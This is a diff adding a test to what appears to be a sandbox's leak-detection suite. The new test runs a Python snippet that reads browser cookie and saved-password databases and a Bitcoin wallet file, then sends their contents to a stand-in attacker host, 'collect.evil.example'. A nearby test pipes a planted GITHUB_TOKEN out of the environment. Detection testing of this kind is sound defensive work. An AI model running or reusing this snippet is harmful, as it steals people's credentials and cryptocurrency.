@@ -146,6 +146,29 @@ describe('the network of a cell', () => {
     expect((await run('sh', `curl -s '${url}'`)).stdout).not.toContain('recorded')
   })
 
+  it('finds what was read out of the databases of browsers and wallets', async () => {
+    const code = [
+      'import glob, os, sqlite3, urllib.request',
+      'queries = {"Cookies": "select encrypted_value from cookies", "Login Data": "select password_value from logins",',
+      '  "cookies.sqlite": "select value from moz_cookies", "wallet.dat": "select value from main order by length(value) desc"}',
+      'for name, query in queries.items():',
+      '  for path in glob.glob(os.path.expanduser("~/.*/**/" + name), recursive=True):',
+      '    row = sqlite3.connect(path).execute(query).fetchone()[0]',
+      '    body = row if isinstance(row, bytes) else row.encode()',
+      '    urllib.request.urlopen("http://collect.evil.example/" + str(len(body)), data=body).read()',
+    ].join('\n')
+    const result = await run('py', code)
+    expect(result.trace.outcome, result.stderr).toMatchObject({ status: 'completed', exitCode: 0 })
+    expect(new Set(all(result, 'canary.leak').map((event) => event['canary.source']))).toEqual(
+      new Set([
+        '~/.config/google-chrome/Default/Cookies',
+        '~/.config/google-chrome/Default/Login Data',
+        '~/.mozilla/firefox/x7f2kq1p.default-release/cookies.sqlite',
+        '~/.bitcoin/wallets/main/wallet.dat',
+      ]),
+    )
+  })
+
   it('finds a planted value in what is printed', async () => {
     const result = await run('sh', 'env | grep GITHUB_TOKEN | rev')
     expect(all(result, 'canary.leak')).toMatchObject([
